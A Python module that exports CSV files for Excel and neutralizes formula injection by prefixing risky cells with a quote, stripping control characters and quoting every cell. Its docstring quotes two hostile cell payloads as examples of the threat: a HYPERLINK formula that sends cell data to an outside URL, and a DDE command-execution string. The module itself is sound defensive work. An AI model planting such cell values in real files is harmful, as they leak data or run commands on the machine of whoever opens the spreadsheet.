"""CSV files for Excel: UTF-8 with a byte-order mark, every cell quoted, no formula can start.

A spreadsheet opening a CSV reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula: an aspiration or a task titled
``=HYPERLINK("http://…?x="&A1,"Bấm vào đây")`` or ``=cmd|' /C calc'!A0`` would run on the leader's
machine. As OWASP's "CSV Injection" page describes, such a cell gets a single quote in front (Excel
and LibreOffice show it as text, the quote hidden), and every cell is wrapped in double quotes
with its own double quotes doubled, so a locale whose list separator is ";" cannot split a cell
into one that starts a formula either. Control characters an older database may hold are left
out (``core.text.printable``). No Qt.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence

from giaoban.core.text import printable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet reads as a formula (a leading ' when needed).

    Judged on the text as given and as written (control characters left out, a carriage return
    made a line end), so neither "\\r=…" nor "\\x00=…" slips through.
    """
    shown = printable(text)
    return "'" + shown if text.startswith(FORMULA_STARTS) or shown.startswith(FORMULA_STARTS) \
        else shown


def cell(value: object) -> str:
    """One CSV cell: "" for nothing, ISO dates (2026-11-15), text neutralized, numbers as they are."""
    if value is None:
        return ""
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, str):
        return neutralize(value)
    return str(value)


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    """The whole CSV file: a header line, then one line per row (CRLF line ends, as Excel's)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)
    writer.writerow([cell(title) for title in header])
    for row in rows:
        writer.writerow([cell(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")
